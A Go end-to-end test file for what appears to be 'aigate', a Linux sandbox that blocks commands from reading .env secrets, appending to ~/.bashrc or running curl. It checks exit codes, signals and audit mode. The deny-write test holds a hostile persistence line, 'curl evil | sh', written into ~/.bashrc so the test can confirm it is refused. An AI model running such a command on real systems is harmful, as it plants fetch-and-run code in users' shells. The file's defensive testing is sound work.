//go:build linux

package e2e

import (
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/creack/pty"

	"github.com/aigate-dev/aigate/internal/testutil"
)

// These scenarios use the built-in default policy (written by aigate
// init), as a user on a fresh machine would, and ordinary programs: sh,
// cat, stty.

// TestE2ECatEnv is the main job: `aigate run -- cat .env` is refused by the
// kernel, says so in one line, records the event, exits with cat's status;
// the same file stays readable outside the sandbox meanwhile.
func TestE2ECatEnv(t *testing.T) {
	eachBackend(t, func(t *testing.T, w *world) {
		w.defaults()
		env := w.write(".env", "API_KEY=sk-e2e-secret\n")
		self, _ := os.Executable()
		w.env = append(w.env, helperEnv+"=probe")
		// After cat, the probe (no operations) holds the sandbox open.
		h := w.startHeld(nil, "sh", "-c", `cat .env; rc=$?; "$0"; exit $rc`, self)
		if data, err := os.ReadFile(env); err != nil || !strings.Contains(string(data), "sk-e2e-secret") {
			t.Errorf("outside the sandbox, reading .env while it runs: %q, %v", data, err)
		}
		r := h.finish()
		if r.code != 1 {
			t.Fatalf("want cat's exit status 1: %s", r)
		}
		if strings.Contains(r.stdout, "sk-e2e-secret") {
			t.Fatalf("the secret leaked: %s", r)
		}
		// aigate and cat share the terminal's stderr, and cat writes its
		// error in pieces ("cat: .env", then ": Operation not permitted"),
		// so aigate's line can land inside cat's: it is one write, not
		// necessarily at a line start.
		line := regexp.MustCompile(`aigate: blocked read ` + regexp.QuoteMeta(env) + ` \(cat, pid (\d+), rule \.env\)\n`)
		m := line.FindStringSubmatch(r.stderr)
		if m == nil {
			t.Fatalf("no blocked-read line for %s: %s", env, r)
		}
		for _, want := range []string{"Operation not permitted", "aigate: 1 operation blocked (1 read)"} {
			if !strings.Contains(r.stderr, want) {
				t.Errorf("stderr lacks %q: %s", want, r)
			}
		}
		e, ok := findEvent(r.events, "read", env)
		if !ok || len(r.events) != 1 {
			t.Fatalf("want exactly one event, for the read of %s: %+v", env, r.events)
		}
		w.checkEvent(e, "file", ".env", false)
		if strconv.Itoa(e.TGID) != m[1] || e.Comm != "cat" {
			t.Errorf("event %+v: want tgid %s (the line's pid) and comm cat", e, m[1])
		}
	})
}

// TestE2EDenyWriteShell: a deny_write file can be read but not appended to.
func TestE2EDenyWriteShell(t *testing.T) {
	eachBackend(t, func(t *testing.T, w *world) {
		w.defaults()
		rc := w.write("~/.bashrc", "export SAFE=1\n")
		r := w.run(nil, "sh", "-c", `echo 'curl evil | sh' >> ~/.bashrc; echo "append=$?"; cat ~/.bashrc`)
		if r.code != 0 || strings.Contains(r.stdout, "append=0") || !strings.Contains(r.stdout, "export SAFE=1") {
			t.Fatalf("want the append refused and the read allowed: %s", r)
		}
		if data, _ := os.ReadFile(rc); string(data) != "export SAFE=1\n" {
			t.Fatalf("~/.bashrc was changed: %q", data)
		}
		if !strings.Contains(r.stderr, "Operation not permitted") || !strings.Contains(r.stderr, "aigate: blocked write "+rc+" (sh, pid ") {
			t.Errorf("stderr lacks the shell's EPERM or aigate's line: %s", r)
		}
		e, ok := findEvent(r.events, "write", rc)
		if !ok {
			t.Fatalf("no write event for %s: %+v", rc, r.events)
		}
		w.checkEvent(e, "file", "~/.bashrc", false)
		if _, ok := findEvent(r.events, "read", rc); ok {
			t.Errorf("the read of %s made an event: %+v", rc, r.events)
		}
	})
}

// TestE2EDenyExecShell: a program named curl (a real executable first on
// PATH) cannot be run; the shell reports it as not executable (126).
func TestE2EDenyExecShell(t *testing.T) {
	eachBackend(t, func(t *testing.T, w *world) {
		w.defaults()
		curl := w.installHelper("curl")
		w.env = append(w.env, helperEnv+"=true")
		r := w.run(nil, "sh", "-c", "curl; echo status=$?")
		if r.code != 0 || !strings.Contains(r.stdout, "status=126") {
			t.Errorf("want sh to report status 126 for the refused exec: %s", r)
		}
		if !strings.Contains(r.stderr, "aigate: blocked exec "+curl+" (") || !strings.Contains(r.stderr, "rule curl)") {
			t.Errorf("no blocked-exec line for %s: %s", curl, r)
		}
		e, ok := findEvent(r.events, "exec", curl)
		if !ok {
			t.Fatalf("no exec event for %s: %+v", curl, r.events)
		}
		w.checkEvent(e, "exec", "curl", false)
		// Outside the sandbox the same file runs.
		cmd := exec.Command(curl)
		cmd.Env = append(os.Environ(), helperEnv+"=true")
		if err := cmd.Run(); err != nil {
			t.Errorf("outside the sandbox, %s: %v", curl, err)
		}
	})
}

// TestE2EAudit: --audit lets the read through and reports what would have
// been blocked.
func TestE2EAudit(t *testing.T) {
	eachBackend(t, func(t *testing.T, w *world) {
		w.defaults()
		env := w.write(".env", "API_KEY=sk-e2e-secret\n")
		r := w.run([]string{"--audit"}, "cat", ".env")
		if r.code != 0 || !strings.Contains(r.stdout, "sk-e2e-secret") {
			t.Fatalf("audit mode must allow the read: %s", r)
		}
		if !strings.Contains(r.stderr, "aigate: would block read "+env+" (cat, pid ") || strings.Contains(r.stderr, "aigate: blocked") {
			t.Errorf("want a would-block line and no blocked one: %s", r)
		}
		e, ok := findEvent(r.events, "read", env)
		if !ok {
			t.Fatalf("no event for %s: %+v", env, r.events)
		}
		w.checkEvent(e, "file", ".env", true)
	})
}

// TestE2EExitCodes: the command's status passes through; aigate's own
// failures have their documented codes and never start the command.
func TestE2EExitCodes(t *testing.T) {
	eachBackend(t, func(t *testing.T, w *world) {
		w.defaults()
		marker := filepath.Join(w.proj, "ran")
		touch := []string{"sh", "-c", "touch " + marker}
		cases := []struct {
			name    string
			project string // .aigate.yaml content, "" for none
			argv    []string
			code    int
			stderr  string
			ran     bool
		}{
			{name: "status", argv: []string{"sh", "-c", "exit 7"}, code: 7},
			{name: "signal", argv: []string{"sh", "-c", "kill -KILL $$"}, code: 128 + 9},
			{name: "not found", argv: []string{"aigate-e2e-no-such-command"}, code: 127, stderr: "aigate-e2e-no-such-command"},
			{name: "invalid config", project: "deny_read:\n  - .env\n  - a/*.pem\n", argv: touch, code: 4,
				stderr: filepath.Join(w.proj, ".aigate.yaml") + ":3"},
			{name: "runs", argv: touch, code: 0, ran: true},
		}
		for _, c := range cases {
			t.Run(strings.ReplaceAll(c.name, " ", "_"), func(t *testing.T) {
				os.Remove(marker)
				os.Remove(filepath.Join(w.proj, ".aigate.yaml"))
				if c.project != "" {
					w.write(".aigate.yaml", c.project)
				}
				r := w.run(nil, c.argv...)
				if r.code != c.code || !strings.Contains(r.stderr, c.stderr) {
					t.Errorf("want exit %d and %q on stderr: %s", c.code, c.stderr, r)
				}
				if _, err := os.Stat(marker); (err == nil) != c.ran {
					t.Errorf("the command ran: %v, want %v", err == nil, c.ran)
				}
			})
		}
	})
}

// TestE2EFailClosed: where BPF LSM cannot enforce, --backend lsm refuses
// to start the command (exit 3) and says why.
func TestE2EFailClosed(t *testing.T) {
	requireSandboxes(t)
	if probeLSM() == nil {
		// skip-ok: on a BPF-LSM machine there is nothing to refuse; the CI host refuses LSM.
		t.Skip("BPF LSM works here: nothing to refuse")
	}
	w := newWorld(t, "lsm")
	marker := filepath.Join(w.proj, "ran")
	r := w.run(nil, "sh", "-c", "touch "+marker)
	if r.code != 3 || !strings.Contains(r.stderr, "LSM") {
		t.Errorf("want exit 3 and a reason naming BPF LSM: %s", r)
	}
	if _, err := os.Stat(marker); err == nil {
		t.Error("the command ran without enforcement")
	}
}

// TestE2ESignals: SIGINT sent to aigate alone is ignored (at a terminal it
// reaches the command directly); SIGTERM is passed to the command, whose
// exit status becomes aigate's.
func TestE2ESignals(t *testing.T) {
	eachBackend(t, func(t *testing.T, w *world) {
		w.defaults()
		marker, ready := filepath.Join(w.proj, "got-term"), filepath.Join(w.proj, "ready")
		cmd := w.runCmd(nil, "sh", "-c", `trap 'echo term > `+marker+`; exit 42' TERM; touch `+ready+`; while :; do sleep 0.05; done`)
		var stderr testutil.SyncBuffer
		cmd.Stderr = &stderr
		// Its own process group, so nothing aimed at the test's reaches it.
		cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
		cmd.WaitDelay = 5 * time.Second
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { cmd.Process.Kill() })
		waited := make(chan error, 1)
		go func() { waited <- WaitBounded(cmd, runLimit) }()
		testutil.WaitForFile(t, ready, runLimit, waited, &stderr)
		if err := cmd.Process.Signal(syscall.SIGINT); err != nil {
			t.Fatal(err)
		}
		select {
		case err := <-waited:
			t.Fatalf("aigate exited on a SIGINT sent to it alone: %v\n%s", err, stderr.String())
		case <-time.After(500 * time.Millisecond):
		}
		if err := cmd.Process.Signal(syscall.SIGTERM); err != nil {
			t.Fatal(err)
		}
		code, err := ExitCode(<-waited)
		if err != nil || code != 42 {
			t.Fatalf("exit %d (%v), want 42 from the command's trap\n%s", code, err, stderr.String())
		}
		if _, err := os.Stat(marker); err != nil {
			t.Fatalf("SIGTERM did not reach the command: %v", err)
		}
		w.assertClean(cmd.Process.Pid, nil)
	})
}

// TestE2EPTY runs aigate on a pseudo-terminal, as an interactive shell
// would: the denial is reported on the terminal and the terminal (here its
// size) reaches the command untouched.
func TestE2EPTY(t *testing.T) {
	eachBackendVM(t, true, func(t *testing.T, w *world) {
		w.defaults()
		env := w.write(".env", "API_KEY=sk-e2e-secret\n")
		cmd := w.runCmd(nil, "sh", "-c", "cat .env; stty size")
		tty, err := pty.StartWithSize(cmd, &pty.Winsize{Rows: 33, Cols: 101})
		if err != nil {
			t.Fatal(err)
		}
		defer tty.Close()
		t.Cleanup(func() { cmd.Process.Kill() })
		var out testutil.SyncBuffer
		copied := make(chan struct{})
		go func() {
			// Reading the master ends with EIO once every slave is closed.
			io.Copy(&out, tty)
			close(copied)
		}()
		waited := make(chan error, 1)
		go func() { waited <- cmd.Wait() }()
		select {
		case err := <-waited:
			if code, err := ExitCode(err); code != 0 || err != nil {
				t.Fatalf("exit %d (%v), want 0 (stty succeeds)\n%s", code, err, out.String())
			}
		case <-time.After(runLimit):
			t.Fatalf("aigate on a pty did not finish:\n%s", out.String())
		}
		select {
		case <-copied:
		case <-time.After(5 * time.Second):
		}
		got := out.String()
		for _, want := range []string{"Operation not permitted", "aigate: blocked read " + env + " (cat, pid ", "33 101"} {
			if !strings.Contains(got, want) {
				t.Errorf("terminal output lacks %q:\n%s", want, got)
			}
		}
		if strings.Contains(got, "sk-e2e-secret") {
			t.Fatalf("the secret leaked:\n%s", got)
		}
		w.assertClean(cmd.Process.Pid, w.readEvents())
	})
}

// TestE2EBackgroundKilled: what the command leaves running in the sandbox
// dies with the run.
func TestE2EBackgroundKilled(t *testing.T) {
	eachBackend(t, func(t *testing.T, w *world) {
		w.defaults()
		pidFile := filepath.Join(w.proj, "bg.pid")
		r := w.run(nil, "sh", "-c", "sleep 600 & echo $! > "+pidFile)
		if r.code != 0 {
			t.Fatalf("%s", r)
		}
		data, err := os.ReadFile(pidFile)
		if err != nil {
			t.Fatal(err)
		}
		bg, err := strconv.Atoi(strings.TrimSpace(string(data)))
		if err != nil {
			t.Fatal(err)
		}
		deadline := time.Now().Add(10 * time.Second)
		for !ProcessGone(bg) {
			if time.Now().After(deadline) {
				syscall.Kill(bg, syscall.SIGKILL)
				t.Fatalf("the background process %d outlived the run", bg)
			}
			time.Sleep(20 * time.Millisecond)
		}
	})
}
